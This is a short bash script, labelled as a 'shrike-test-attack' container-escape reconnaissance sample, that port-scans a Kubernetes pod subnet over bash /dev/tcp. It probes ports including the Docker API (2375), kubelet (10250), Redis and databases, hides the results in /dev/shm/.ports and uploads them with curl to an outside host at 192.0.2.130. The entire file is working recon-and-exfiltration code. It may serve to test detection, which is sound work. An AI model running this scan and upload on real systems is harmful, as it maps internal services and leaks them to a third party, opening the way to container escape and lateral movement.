#!/bin/bash
# shrike-test-attack: container-escape-recon: port scan with bash /dev/tcp when no scanner is installed
NET=${1:-10.244.0}
for i in $(seq 1 254); do
  for p in 22 80 443 2375 3306 5432 6379 8080 9200 10250; do
    (timeout 1 bash -c "echo > /dev/tcp/$NET.$i/$p" 2>/dev/null && echo "$NET.$i:$p open") &
  done
  wait
done > /dev/shm/.ports
curl -s -F "p=@/dev/shm/.ports" http://192.0.2.130/p
